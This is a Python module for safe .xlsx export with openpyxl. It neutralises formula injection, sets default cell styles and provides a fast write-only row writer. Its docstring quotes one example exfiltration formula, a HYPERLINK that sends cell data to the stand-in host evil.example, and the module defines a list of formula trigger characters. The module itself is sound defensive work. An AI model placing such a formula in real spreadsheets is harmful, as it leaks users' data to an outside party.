"""Spreadsheets the system writes (openpyxl): text stays text.

openpyxl stores any string that begins with "=" as a formula, and Excel or WPS would
calculate it when the file is opened: a progress note reading
``=HYPERLINK("http://evil.example/?"&A1, "点击")`` would become a live link that sends
the sheet's data away (formula or "CSV" injection, OWASP). Every writer of .xlsx calls
`neutralise_formulas` on each sheet it fills with people's text, or, for a write-only
sheet, `safe_row` on each row before appending it.

`RowWriter` writes the rows of a large write-only sheet (the ledger's) as openpyxl's
``ws.append`` would, several times faster.
"""
from __future__ import annotations

# What a spreadsheet reads as the start of a formula (or, after a tab or carriage
# return, as a new cell that may be one): the same set as the audit log's CSV export.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def looks_like_formula(value) -> bool:
    return isinstance(value, str) and value[:1] in FORMULA_TRIGGERS


def neutralise_formulas(ws) -> int:
    """Store every text cell of `ws` that a spreadsheet could take for a formula as
    plain text with Excel's quote prefix: it is shown and read back exactly as written,
    never calculated, and stays text when someone edits the cell. Returns the number of
    cells changed. The system itself writes no formulas.

    A write-only sheet (``Workbook(write_only=True)``, for large exports) cannot be
    walked afterwards: pass each row through `safe_row` before appending it."""
    changed = 0
    for row in ws.iter_rows():
        for cell in row:
            if cell.data_type == "f" or looks_like_formula(cell.value):
                cell.data_type = "s"
                cell.quotePrefix = True
                changed += 1
    return changed


def safe_row(ws, values) -> list:
    """`values` ready for ``ws.append``, with formula-like text as quoted text cells
    (the same treatment as `neutralise_formulas`); for write-only workbooks
    (``Workbook(write_only=True)``), whose sheets cannot be walked afterwards. Works in
    the normal mode too. Other values (cells already made among them) are kept as they
    are."""
    from openpyxl.cell import WriteOnlyCell

    out = []
    for value in values:
        if looks_like_formula(value):
            cell = WriteOnlyCell(ws, value=value)
            cell.data_type = "s"
            cell.quotePrefix = True
            out.append(cell)
        else:
            out.append(value)
    return out


def set_default_cell_style(wb, *, font=None, alignment=None, border=None) -> None:
    """Gives the workbook's default cell format this font, alignment and border: every
    cell written without a style takes it. A write-only sheet of 10,000 rows then needs
    no style object per cell (which costs as much as the rest of the writing): only the
    cells that differ carry one. Call before writing any cell.

    Both places a spreadsheet reads the default from are set: the "Normal" cell style
    (cellStyleXfs 0, what LibreOffice applies to a cell without a style) and cellXfs 0
    (what Excel applies). openpyxl has no public API for the second; this replaces the
    first entry of ``Workbook._cell_styles``, which its stylesheet writer emits as
    cellXfs 0 — duban/exports/tests check the result in openpyxl and in LibreOffice."""
    from openpyxl.styles.cell_style import StyleArray
    from openpyxl.utils.indexed_list import IndexedList

    normal = wb._named_styles["Normal"]
    default = StyleArray()
    if font is not None:
        normal.font = font
        default.fontId = wb._fonts.add(font)
    if border is not None:
        normal.border = border
        default.borderId = wb._borders.add(border)
    if alignment is not None:
        normal.alignment = alignment
        default.alignmentId = wb._alignments.add(alignment)
    wb._cell_styles = IndexedList([default, *list(wb._cell_styles)[1:]])


class Styled(tuple):
    """A value with a cell style id (`style_id`) for `RowWriter.append`: the cells of a
    large sheet that carry a style, without an openpyxl cell object each."""

    __slots__ = ()

    def __new__(cls, value, style: int):
        return tuple.__new__(cls, (value, style))


def style_id(ws, name: str) -> int:
    """The id in the workbook's cell formats (cellXfs) of the named style `name`, as
    openpyxl gives a cell of that style (registers it on first use)."""
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(ws)
    cell.style = name
    return cell.style_id


class RowWriter:
    """Writes the rows of a write-only sheet (``Workbook(write_only=True)``) as
    ``ws.append`` does — the same XML (cells as inline strings or numbers, a style id
    where a cell has one, the row's height) — but builds each row as one XML element
    instead of an openpyxl cell object per value, which is most of the time of a large
    sheet. duban/exports/tests compare its output with openpyxl's own.

    Values: None (no cell), text, int or float, `Styled` (a value with a style id), or
    an openpyxl cell (e.g. from `safe_row`; its style and quote prefix kept). Text that
    openpyxl would take for a formula is refused (ValueError): pass people's text
    through `safe_row` first; an error code's text ("#N/A") is an error value, as
    openpyxl writes it. Use either this or ``ws.append`` on a sheet, not both;
    set column widths, merged cells and the like before the first row as usual."""

    def __init__(self, ws):
        from openpyxl.cell.cell import ERROR_CODES, ILLEGAL_CHARACTERS_RE, Cell
        from openpyxl.compat import safe_string
        from openpyxl.utils import get_column_letter
        from openpyxl.xml.constants import XML_NS
        from openpyxl.xml.functions import Element, SubElement

        self.ws = ws
        self.row = 0
        self._letters = [""] + [get_column_letter(i) for i in range(1, 16385)]
        self._illegal = ILLEGAL_CHARACTERS_RE.search
        self._error_codes = frozenset(ERROR_CODES)
        self._heights: dict[float, dict] = {}
        self._cell_type, self._safe_string, self._element, self._sub = Cell, safe_string, Element, SubElement
        self._preserve = {f"{{{XML_NS}}}space": "preserve"}
        ws._get_writer()
        if ws._rows is not None:
            raise ValueError("rows were already appended to this sheet with ws.append")
        ws._rows = self._stream()  # ws.close() (on save) closes it, as its own
        next(ws._rows)

    def _stream(self):
        xf = self.ws._writer.xf.send(True)
        with xf.element("sheetData"):
            try:
                while True:
                    xf.write((yield))
            except GeneratorExit:
                pass
        self.ws._writer.xf.send(None)

    def append(self, values, height: float | None = None) -> None:
        """Appends one row; `height` in points (a custom row height), or the sheet's
        (``ws.row_dimensions``) when None."""
        Cell, safe_string, Element, SubElement = self._cell_type, self._safe_string, self._element, self._sub
        index = self.row + 1
        r = str(index)
        attrs = {"r": r}
        if height is not None:
            # What ``ws.row_dimensions[row].height = height`` writes, worked out once per height.
            dim = self._heights.get(height)
            if dim is None:
                from openpyxl.worksheet.dimensions import RowDimension

                made = RowDimension(self.ws)
                made.height = height
                dim = self._heights[height] = dict(made)
            attrs.update(dim)
        else:
            attrs.update(self.ws.row_dimensions.get(index, {}))
        row = Element("row", attrs)
        letters = self._letters
        for col, value in enumerate(values, 1):
            if value is None:
                continue
            style = kind = None
            if type(value) is Styled:
                value, style = value
            elif isinstance(value, Cell):
                style = value.style_id if value.has_style else None
                kind, value = value.data_type, value._value
                if kind not in ("s", "n", "e"):
                    raise ValueError(f"RowWriter writes text and numbers, not cells of type {kind!r}")
            attrs = {"r": letters[col] + r}
            if style is not None:
                attrs["s"] = str(style)
            if isinstance(value, str):
                value = value[:32767]
                if self._illegal(value):
                    from openpyxl.cell.cell import IllegalCharacterError

                    raise IllegalCharacterError(f"{value} cannot be used in worksheets.")
                if kind is None:
                    if len(value) > 1 and value[0] == "=":
                        raise ValueError(f"RowWriter does not write formulas: {value[:20]!r}")
                    if value in self._error_codes:
                        kind = "e"  # as openpyxl takes "#N/A": an error value
                if kind == "e":
                    attrs["t"] = "e"
                    SubElement(SubElement(row, "c", attrs), "v").text = value
                    continue
                attrs["t"] = "inlineStr"
                cell = SubElement(row, "c", attrs)
                if value:
                    text = SubElement(SubElement(cell, "is"), "t", self._preserve if value != value.strip() else {})
                    text.text = value
                else:
                    cell.text = ""  # <c …></c>, as openpyxl writes an empty cell
            elif value is None or type(value) in (int, float):  # None: a styled cell without a value
                attrs["t"] = "n"
                cell = SubElement(row, "c", attrs)
                if value is not None:
                    SubElement(cell, "v").text = safe_string(value)
                else:
                    cell.text = ""
            else:
                raise ValueError(f"RowWriter writes text and numbers, not {type(value).__name__}")
        self.ws._rows.send(row)
        self.row = index  # a row refused (ValueError) takes no number
